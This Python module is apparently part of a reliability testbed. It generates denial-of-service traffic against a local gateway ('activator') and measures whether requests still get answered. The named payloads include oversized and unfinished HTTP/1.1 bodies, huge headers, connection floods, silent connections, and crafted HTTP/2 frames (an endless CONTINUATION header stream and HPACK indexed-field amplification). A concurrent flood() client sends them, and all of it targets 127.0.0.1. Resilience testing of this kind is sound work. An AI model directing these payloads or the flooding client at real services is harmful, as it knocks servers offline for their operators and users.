"""Clients of the activator under attack, and the replica that answers them."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator, Callable, Sequence

import aiohttp

from headroom.gateway import Endpoint
from reliability.attacks.grpc_payloads import (
    END_HEADERS,
    FRAME_BYTES,
    METHOD,
    PREFACE,
    Kind,
    headers,
)
from reliability.attacks.grpc_payloads import frame as grpc_frame
from reliability.testbed.memory_cgroup import MIB

CONNECTIONS = 3000
BODY_BYTES = 16 * MIB


def _post(size: int, length: int) -> bytes:
    return b"POST / HTTP/1.1\r\nhost: x\r\ncontent-length: %d\r\n\r\n%s" % (length, bytes(size))


def _endless_head(size: int) -> bytes:
    """Return an HTTP/2 connection with one head, whose frames never say that it is complete."""
    field = b"\x00\x03x-a\x0ayyyyyyyyyy"
    frame = grpc_frame(Kind.CONTINUATION, 0, 1, field * 15)
    begin = PREFACE + grpc_frame(Kind.SETTINGS, 0, 0)
    begin += grpc_frame(Kind.HEADERS, 0, 1, headers(METHOD))
    return begin + frame * (size // len(frame))


def _known_fields(size: int) -> bytes:
    """Return an HTTP/2 connection with heads of fields that it has sent before, in a byte each."""
    head, new = headers(METHOD), b"\x40\x03x-a\x0ayyyyyyyyyy"
    sent = PREFACE + grpc_frame(Kind.SETTINGS, 0, 0)
    sent += grpc_frame(Kind.HEADERS, END_HEADERS, 1, head + new)
    for stream in range(3, 3 + 2 * (size // FRAME_BYTES), 2):
        known = b"\xbe" * (FRAME_BYTES - len(head))
        sent += grpc_frame(Kind.HEADERS, END_HEADERS, stream, head + known)
    return sent


ATTACKS: dict[str, tuple[int, Callable[[], bytes]]] = {
    "bodies": (100, lambda: _post(BODY_BYTES - 1000, BODY_BYTES - 1000)),
    "unfinished bodies": (100, lambda: _post(BODY_BYTES - 2000, BODY_BYTES - 1000)),
    "bytes behind a request": (100, lambda: _post(0, 0) + bytes(BODY_BYTES)),
    "heads": (CONNECTIONS, lambda: b"GET / HTTP/1.1\r\nx: " + b"y" * 60_000),
    "requests": (CONNECTIONS, lambda: _post(0, 0)),
    "silent connections": (CONNECTIONS, bytes),
    "endless heads of HTTP/2": (40, lambda: _endless_head(BODY_BYTES)),
    "known fields of HTTP/2": (40, lambda: _known_fields(BODY_BYTES)),
    "HTTP/2": (CONNECTIONS // 4, lambda: b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9)),
}
"""Attacks by name: connections for each of the hostile services, and what each sends."""


class _Silent(asyncio.Protocol):
    """A connection that is accepted and never read."""

    def __init__(self, opened: set[asyncio.Transport]) -> None:
        self._opened = opened

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """Read nothing."""
        assert isinstance(transport, asyncio.Transport)
        transport.pause_reading()
        self._opened.add(transport)


@contextlib.asynccontextmanager
async def silent_replica() -> AsyncIterator[tuple[Endpoint, Endpoint]]:
    """Listen as a replica that answers, and as one that accepts and reads nothing."""

    async def answers(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            head = await reader.readuntil(b"\r\n\r\n")
            await reader.readexactly(int(head.lower().partition(b"content-length: ")[2].split()[0]))
            writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok")
            await writer.drain()
        writer.close()

    loop, opened = asyncio.get_running_loop(), set[asyncio.Transport]()
    good = await asyncio.start_server(answers, "127.0.0.1", 0)
    silent = await loop.create_server(lambda: _Silent(opened), "127.0.0.1", 0, backlog=4096)
    async with good, silent:
        ports = [one.sockets[0].getsockname()[1] for one in (good, silent)]
        try:
            yield Endpoint("127.0.0.1", ports[0]), Endpoint("127.0.0.1", ports[1])
        finally:
            for transport in opened:
                transport.abort()
            await asyncio.sleep(0)


@contextlib.asynccontextmanager
async def flood(ports: Sequence[int], name: str) -> AsyncIterator[None]:
    """Attack these services for as long as the block lasts."""
    count, payload = ATTACKS[name]
    data = payload()
    tasks = [
        asyncio.create_task(_client(port, data)) for port in ports for _ in range(count // 4 + 1)
    ]
    try:
        yield
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


async def _client(port: int, data: bytes) -> None:
    """Send as fast as the activator reads, and stay; again where it closes."""
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            try:
                for at in range(0, len(data), MIB):
                    writer.write(data[at : at + MIB])
                    await writer.drain()
                await reader.read()
            finally:
                writer.transport.abort()
        await asyncio.sleep(0.2)


async def answered(port: int) -> int:
    """Return 1 if the victim's request was answered by its replica."""
    timeout = aiohttp.ClientTimeout(total=30.0)
    url = f"http://127.0.0.1:{port}/"
    async with aiohttp.ClientSession(timeout=timeout) as http:
        try:
            async with http.post(url, data=bytes(1 << 20)) as answer:
                return int(answer.status == 200)
        except (aiohttp.ClientError, TimeoutError):
            return 0


async def until_open(ports: Sequence[int]) -> None:
    """Wait until every port accepts connections."""
    for port in ports:
        async with asyncio.timeout(60.0):
            while True:
                try:
                    _, writer = await asyncio.open_connection("127.0.0.1", port)
                except OSError:
                    await asyncio.sleep(0.05)
                    continue
                writer.close()
                break
